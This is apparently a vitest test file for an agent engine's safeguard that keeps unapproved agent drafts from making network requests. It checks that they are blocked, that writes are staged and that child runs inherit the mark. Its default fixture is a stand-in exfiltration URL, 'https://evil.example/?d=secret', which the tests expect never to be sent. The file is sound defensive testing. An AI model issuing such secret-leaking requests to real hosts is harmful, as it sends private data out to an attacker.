// [F77, G11] A run that tries what an agent wrote and nobody accepted: none of its calls sends a request, not even to read, whatever the draft
// and its tools say of themselves. What changes something outside is kept.

import { beforeEach, describe, expect, test } from "vitest"
import type { ToolSpec } from "../../../src/core/tool/tool-spec.ts"
import { inheritedBy, childStartOf } from "../../../src/engine/run/begin/start.ts"
import { recordedCall } from "../../../src/engine/repair/recorded-call.ts"
import type { Net } from "../../../src/ports/net.ts"
import type { Tool } from "../../../src/ports/tool.ts"
import { agent, done, flow, Stand } from "../../support/engine/stand.ts"

/** Hosts that were asked. */
let sent: string[] = []
beforeEach(() => void (sent = []))
const NET: Net = {
  fetch: async ({ url }) => {
    sent.push(String(url))
    throw new Error("connection refused")
  },
}

const tool = (name: string, effect: ToolSpec["effect"], more: Partial<Tool> = {}): Tool => ({
  name,
  description: name,
  parameters: { type: "object", properties: { url: { type: "string" } }, additionalProperties: false },
  effect,
  contexts: ["agent"],
  async execute(_id, { url }, signal, _update, powers) {
    if (!powers.net) return { content: [{ type: "text", text: "no network" }] }
    await powers.net.fetch({ url: new URL(String(url)), maxBytes: 10, timeout: 10 } as never, signal)
    return { content: [{ type: "text", text: "fetched" }] }
  },
  ...more,
})
const TOOLS = [
  tool("look", "read", { reach: { method: { fixed: "GET" }, to: { arg: "url" } } }),
  tool("quiet", "read"),
  tool("lookup", "read", { reach: { method: { fixed: "GET" }, to: { host: "api.example" } }, requiredSecretScopes: ["s"] }),
  tool("post", "write", { reach: { method: { fixed: "POST" }, to: { arg: "url" } } }),
]
const HEAD =
  "tools: [look, quiet, lookup, post, web.fetch, write]\neffects: { after_untrusted: allow }\ntool_approvals: { default: never }\n"

async function called(
  name: string,
  args: object = { url: "https://evil.example/?d=secret" },
  more: object = { unaccepted: true },
): Promise<Stand> {
  const stand = new Stand(flow("  - { id: a, type: agent, agent: w }\n"), [agent("w", HEAD)], TOOLS)
  stand.powers = { net: NET }
  stand.rules = { ...stand.rules, scopes: ["s"] }
  stand.start("go", true, { rules: JSON.parse(JSON.stringify(stand.rules)), ...more })
  await (await stand.next("a")).answer({ calls: [{ name, args }] })
  await stand.settle()
  return stand
}
const result = (stand: Stand): string => {
  const e = stand.events().findLast((one) => one.type === "tool.returned")
  return e?.type === "tool.returned" ? e.content.map((part) => (part.type === "text" ? part.text : "")).join("") : "nothing"
}

describe("nothing leaves", () => {
  test.each(["look", "lookup", "web.fetch"])("[F77] %s is not made, and its agent reads why", async (name) => {
    const stand = await called(name, name === "lookup" ? {} : undefined)
    expect([sent, result(stand)]).toEqual([[], expect.stringContaining("nobody has accepted")])
    expect(stand.conductor.run.pending).toEqual([])
    await (await stand.next("a")).answer(done())
    expect(stand.conductor.run.status).toBe("succeeded")
  })

  test("[F77] nor by a tool that says of itself that it stays inside", async () => {
    expect([result(await called("quiet")), sent]).toEqual(["no network", []])
  })

  test("[F77] [K32] a write is kept, also in a run that was begun as live; one in the workspace is made", async () => {
    const stand = await called("post")
    expect(sent).toEqual([])
    expect(stand.types()).not.toContain("interaction.asked")
    expect(stand.events().find((e) => e.type === "tool.returned")).toMatchObject({ tool: "post", staged: true })
    expect(stand.events().filter((e) => e.type === "action.begun" && e.kind === "tool")).toEqual([])
    expect(result(await called("write", { path: "n.txt", content: "x" }))).not.toContain("accepted")
  })

  test("[F77] without the mark the same draft sends, so the test can fail", async () => {
    await called("look", undefined, {})
    await called("quiet", undefined, {})
    expect(sent).toHaveLength(2)
  })

  test("[F77] its children are marked as it is", async () => {
    const { run } = (await called("quiet")).conductor
    const from = inheritedBy(run, { step: "a", pass: 1, tainted: false, private: false })
    const pins = { revision: 1, flow: { id: "c", hash: "h" }, agents: {}, skills: {}, models: {} }
    const wish = { tenant: "t", run: "run_c", task: "", inputs: {}, pins, index: 0, budget: {} }
    expect(childStartOf(from, wish, (text) => text)).toMatchObject({ unaccepted: true })
    expect(childStartOf({ ...from, unaccepted: undefined } as never, wish, (text) => text)).not.toHaveProperty("unaccepted")
  })
})

describe("recorded answers", () => {
  test("[F77] a call that the source made has its answer and its marks, of after the cut first", async () => {
    const source = await called("write", { path: "n.txt", content: "x" }, {})
    await (await source.next("a")).answer({ calls: [{ name: "quiet", args: { url: "https://a.example/" } }] })
    await source.settle()
    const log = source
      .events()
      .map((e) =>
        e.type === "tool.returned" ? { ...e, content: [{ type: "text" as const, text: `answer ${e.seq}` }], tainted: true as const } : e,
      )
    const port = {
      events: async (after: number, limit: number) => ({ data: log.slice(after, after + Math.min(limit, 3)), ended: true, more: true }),
    } as never
    const [first, second] = log.flatMap((e) => (e.type === "tool.returned" ? [e.seq] : []))
    const found = (after: number, name: string, args: object) => recordedCall(port, after, name, args as never)
    expect(await found(0, "write", { path: "n.txt", content: "x" })).toMatchObject({
      content: [{ text: `answer ${first}` }],
      untrusted: true,
    })
    expect(await found(second ?? 0, "quiet", { url: "https://a.example/" })).toMatchObject({ content: [{ text: `answer ${second}` }] })
    expect(await found(0, "quiet", { url: "https://b.example/" })).toBeUndefined()
  })

  test("[F77] stands in for a call that a fork may not make", async () => {
    const stand = new Stand(flow("  - { id: a, type: agent, agent: w }\n"), [agent("w", HEAD)], TOOLS)
    stand.powers = { net: NET }
    stand.recorded = async (fork, name, args) => ({
      isError: false,
      content: [{ type: "text", text: `${fork.seq} ${name} ${String(args["url"])}` }],
    })
    stand.foreign = true
    stand.start()
    const { run } = stand.conductor
    Object.assign(run, { unaccepted: true, fork: { run: "run_0", seq: 5 } })
    await (await stand.next("a")).answer({ calls: [{ name: "look", args: { url: "https://a.example/" } }] })
    await stand.settle()
    expect([result(stand), sent]).toEqual(["5 look https://a.example/", []])
  })
})
